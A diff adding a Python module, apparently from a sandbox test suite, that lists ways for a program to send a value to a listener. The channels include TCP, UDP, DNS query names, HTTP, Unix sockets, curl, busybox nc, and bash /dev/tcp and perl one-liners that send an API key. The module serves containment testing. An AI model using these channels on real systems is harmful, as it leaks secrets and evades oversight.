@@ -1,0 +1,67 @@
+"""A program sends the value away; the agent listens outside."""
+
+import os
+import socket
+
+from .technique import Technique
+
+G = "network"
+
+
+def sent(name, what, code, address="127.0.0.1", kind=socket.SOCK_STREAM, family=socket.AF_INET):
+    """Code that sends to the ear at `p`, a port or a path."""
+
+    def act(place):
+        place.empty()
+        at = address(place) if callable(address) else address
+        with place.ear(at, kind, family) as heard:
+            seen = place.python(f"import socket\np = {heard.port!r}\n" + code)
+        place.empty()
+        return heard.data + seen.output
+
+    Technique(G, name, what, act)
+
+
+def called(name, what, argv, needs=(), as_input=False):
+    """A command line that sends to the ear at a port."""
+
+    def act(place):
+        with place.ear("127.0.0.1") as heard:
+            seen = place.run(argv(heard.port), as_input=as_input)
+        return heard.data + seen.output
+
+    Technique(G, name, what, act, needs)
+
+
+UNIX = "s = socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(v)"
+sent("tcp", "over TCP", "s = socket.create_connection(('127.0.0.1', p)); s.sendall(v)")
+sent("tcp6", "over TCP on IPv6", "s = socket.create_connection(('::1', p)); s.sendall(v)", "::1", family=socket.AF_INET6)
+sent("mapped", "over IPv6 to an IPv4 address", "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', p)); s.sendall(v)")
+sent("fastopen", "in the first packet of TCP", "s = socket.socket(); s.sendto(v, socket.MSG_FASTOPEN, ('127.0.0.1', p))")
+sent("udp", "over UDP", "s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(v, ('127.0.0.1', p))", kind=socket.SOCK_DGRAM)
+sent("udp6", "over UDP on IPv6", "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(v, ('::1', p))", "::1", socket.SOCK_DGRAM, socket.AF_INET6)
+sent("dns", "as the name in a DNS question", "s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + bytes([len(v)]) + v + b'\\7example\\0\\0\\1\\0\\1', ('127.0.0.1', p))",
+     kind=socket.SOCK_DGRAM)
+sent("http", "in an HTTP request of Python's", "import urllib.request; urllib.request.urlopen(f'http://127.0.0.1:{p}/?' + v.decode(), timeout=5)")
+sent("late", "by a process that is left behind", "if os.fork() == 0:\n os.setsid(); s = socket.create_connection(('127.0.0.1', p)); s.sendall(v); s.close(); os._exit(0)\nos.wait()")
+sent("ports", "as the order in which ports are knocked at", "s = socket.create_connection(('127.0.0.1', p)); [s.sendall(bytes([b])) for b in v]")
+sent("abstract", "over an abstract Unix socket", UNIX, lambda place: f"\0tacit-table-{os.getpid()}", family=socket.AF_UNIX)
+sent("unix", "over a Unix socket in the working directory", UNIX, lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
+sent("unix-tmp", "over a Unix socket in /tmp", UNIX, lambda place: fresh(f"/tmp/tacit-table-{os.getpid()}.sock"), family=socket.AF_UNIX)
+sent("unix-run", "over a Unix socket in the runtime directory, where D-Bus and agents have theirs", UNIX, lambda place: fresh(str(place.runtime / "bus")), family=socket.AF_UNIX)
+sent("unix-datagram", "over a datagram Unix socket", "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(v, p)",
+     lambda place: str(place.directory / "d"), socket.SOCK_DGRAM, socket.AF_UNIX)
+sent("descriptor", "as a descriptor that is passed over a Unix socket", "s = socket.socket(socket.AF_UNIX); s.connect(p); socket.send_fds(s, [v], [0])", lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
+called("curl", "`curl -d @-`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-d", "@-", f"http://127.0.0.1:{port}/"], as_input=True)
+called("curl-upload", "`curl -T -`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-H", "Expect:", "-T", "-", f"http://127.0.0.1:{port}/"], as_input=True)
+called("curl-telnet", "`curl telnet://`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", f"telnet://127.0.0.1:{port}/"], as_input=True)
+called("curl-proxy", "`curl` with a proxy of the agent's", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-x", f"http://127.0.0.1:{port}", "-d", "@-", "http://shop.example/"], as_input=True)
+called("bash", "bash's /dev/tcp", lambda port: ["/bin/bash", "-c", f'echo "$API_KEY" >/dev/tcp/127.0.0.1/{port}'])
+called("busybox", "`busybox nc`", lambda port: ["busybox", "nc", "127.0.0.1", str(port)], ("busybox",), as_input=True)
+called("perl", "perl's sockets", lambda port: ["/usr/bin/perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new('127.0.0.1:{port}')->print($ENV{{API_KEY}})"], ("perl",))
+
+
+def fresh(path):
+    if os.path.exists(path):
+        os.unlink(path)
+    return path
